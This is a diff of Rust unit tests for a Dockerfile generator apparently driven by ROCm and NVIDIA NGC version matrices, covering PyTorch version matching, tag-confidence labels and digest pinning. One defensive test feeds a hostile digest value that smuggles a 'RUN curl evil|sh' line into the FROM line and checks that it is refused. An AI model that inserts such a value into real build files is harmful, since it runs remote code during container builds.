@@ -26,9 +26,10 @@ fn pytorch_prefix_matches_whole_parts_only() {
     r.pytorch = Some("2.1".into());
     let b = select_base(&r, m()).unwrap();
     assert_eq!(b.pytorch.as_deref(), Some("2.1.2"));
+    // No listed image carries PyTorch 2.10 (rocm.yaml keeps only tags in a release's PyTorch list),
+    // so `2.10` must not fall back to the 2.1.x images.
     r.pytorch = Some("2.10".into());
-    let b = select_base(&r, m()).unwrap();
-    assert_eq!(b.pytorch.as_deref(), Some("2.10.0"));
+    assert_eq!(usage(&r).0, "--pytorch");
 }
 
 #[test]
@@ -92,7 +93,7 @@ fn bad_version_flags_are_usage_errors() {
 #[test]
 fn unconfirmed_tag_gets_a_note_and_a_label() {
     let mut r = req(Stack::Rocm);
-    r.rocm = Some("7.2".into());
+    r.rocm = Some("7.2.0".into());
     let out = render(&r, m()).unwrap();
     assert!(
         out.notes.iter().any(|n| n.contains("unconfirmed")),
@@ -106,7 +107,7 @@ fn unconfirmed_tag_gets_a_note_and_a_label() {
         "{}",
         out.dockerfile
     );
-    r.rocm = Some("6.4".into());
+    r.rocm = Some("6.4.2".into());
     let out = render(&r, m()).unwrap();
     assert!(!out.labels.contains_key("io.rocmenv.tag-confidence"));
 }
@@ -207,8 +208,8 @@ fn digest_in_the_matrix_pins_the_from_line() {
 
     let (_d, m) = matrices_with(
         "ngc.yaml",
-        "min_driver: \"545\", datacenter_drivers: [\"525.85\", \"535.86\", \"545.23\"], source: \"matrix-facts §6 [J][M][T]\"}",
-        &format!("min_driver: \"545\", digest: \"{hex}\", source: \"x\"}}"),
+        "min_driver: \"545\", datacenter_drivers: [\"470.57\", \"525.85\", \"535.86\", \"545.23\"], source: \"https://docs.nvidia.com/deeplearning/frameworks/pytorch-release-notes/rel-24-05.html;",
+        &format!("min_driver: \"545\", digest: \"{hex}\", source: \"https://docs.nvidia.com/deeplearning/frameworks/pytorch-release-notes/rel-24-05.html;"),
     );
     let mut r = req(Stack::Ngc);
     r.ngc = Some("24.05".into());
@@ -227,8 +228,8 @@ fn hostile_matrix_digest_is_refused() {
     // The loader checks tags; a digest reaches the FROM line only through `sanitize::image_reference`.
     let (_d, m) = matrices_with(
         "ngc.yaml",
-        "min_driver: \"545\", datacenter_drivers: [\"525.85\", \"535.86\", \"545.23\"], source: \"matrix-facts §6 [J][M][T]\"}",
-        "min_driver: \"545\", digest: \"sha256:00\\nRUN curl evil|sh\"}",
+        "min_driver: \"545\", datacenter_drivers: [\"470.57\", \"525.85\", \"535.86\", \"545.23\"], source: \"https://docs.nvidia.com/deeplearning/frameworks/pytorch-release-notes/rel-24-05.html;",
+        "min_driver: \"545\", digest: \"sha256:00\\nRUN curl evil|sh\", source: \"https://docs.nvidia.com/deeplearning/frameworks/pytorch-release-notes/rel-24-05.html;",
     );
     let mut r = req(Stack::Ngc);
     r.ngc = Some("24.05".into());
